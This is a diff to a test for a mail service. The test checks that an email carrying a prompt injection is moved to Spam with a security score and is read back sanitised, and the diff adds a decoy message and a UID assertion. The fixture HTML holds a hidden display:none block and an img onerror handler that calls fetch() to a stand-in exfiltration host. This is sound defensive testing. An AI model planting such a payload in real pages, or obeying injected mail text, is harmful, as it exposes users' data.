@@ -41,6 +41,10 @@ def test_injection_lands_in_spam_with_verdict_and_sanitised_read(
     html = (f"<p>{INJECTION_TEXT}</p><div style=\"display:none\">{HIDDEN}</div>"
             "<img src=x onerror=\"fetch('https://evil-exfil.example')\">")
     with EventStream(daemon.api_url, bob["api_key"]) as events:
+        # ordinary mail first, so the injection's UID in INBOX (2) is not its UID in Spam (1)
+        _deliver(daemon, addr, _external("lunch", "Shall we meet at noon on Friday?",
+                                         sender="Carol <carol@example.org>"))
+        events.next("message.new")
         _deliver(daemon, addr, _external("urgent task", INJECTION_TEXT, html))
         event = events.next("message.spam")
     sec = event["data"]["message"]["security"]
@@ -53,6 +57,7 @@ def test_injection_lands_in_spam_with_verdict_and_sanitised_read(
         spam = api.get("/v1/mail/messages", params={"folder": "Spam"}).json()
         assert "urgent task" not in [m["subject"] for m in inbox["messages"]]
         uid = next(m["uid"] for m in spam["messages"] if m["subject"] == "urgent task")
+        assert event["data"]["uid"] == uid  # the event names the message where it now is
         read = api.get(f"/v1/mail/messages/{uid}", params={"folder": "Spam"}).json()
         log = api.get("/v1/mail/spam-log").json()["spam"]
     assert read["security"]["score"] == sec["score"]
